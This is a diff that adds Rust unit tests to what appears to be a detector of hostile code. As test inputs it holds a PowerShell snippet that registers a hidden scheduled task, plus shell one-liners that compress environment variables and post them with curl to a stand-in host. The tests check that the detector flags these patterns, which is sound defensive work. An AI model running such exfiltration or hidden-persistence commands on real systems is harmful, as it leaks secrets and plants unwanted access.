@@ -272,3 +272,29 @@ fn keys_go_to_mailboxes_and_in_queues() {
                  function keep(k) { all.push(k); setTimeout(go, 10); }\nexports.Keypair = Keypair;\n";
     assert_eq!(weight(JavaScript, queue, "flow-key-sent"), Some(Severity::Critical));
 }
+
+#[test]
+fn a_task_that_holds_what_a_script_demands_is_asked_for() {
+    let task = |param: &str| {
+        let code = format!(
+            "param({param}[string]$From, [switch]$Remove)\n\
+             $a = New-ScheduledTaskAction -Execute powershell.exe -Argument \"-WindowStyle Hidden -File sync.ps1 $From\"\n\
+             Register-ScheduledTask -TaskName 'Sync' -Action $a -Trigger $t -Force"
+        );
+        weight(Language::PowerShell, &code, "flow-persists")
+    };
+    assert_eq!(task("[Parameter(Mandatory)]"), Some(Severity::Medium));
+    assert_eq!(task("[Parameter(Mandatory = $true, Position = 0)]"), Some(Severity::Medium));
+    assert_eq!(task("[Parameter(Mandatory=$false)]"), Some(Severity::High));
+    assert_eq!(task(""), Some(Severity::High));
+}
+
+#[test]
+fn a_group_prints_what_all_of_its_commands_do() {
+    for group in ["env; date", "env; [ -S /run/x ] && date", "env; x=1; date", "[ -n \"$x\" ] || date; env"] {
+        let code = format!("{{ {group}; }} | gzip | curl -s --data-binary @- https://h.invalid/u");
+        assert!(rules(Language::Shell, &code).contains(&"flow-environment-sent"), "{group}");
+    }
+    let other = "{ date; [ -S /run/x ] && uptime; } | gzip | curl -s --data-binary @- https://h.invalid/u";
+    assert!(!rules(Language::Shell, other).contains(&"flow-environment-sent"));
+}
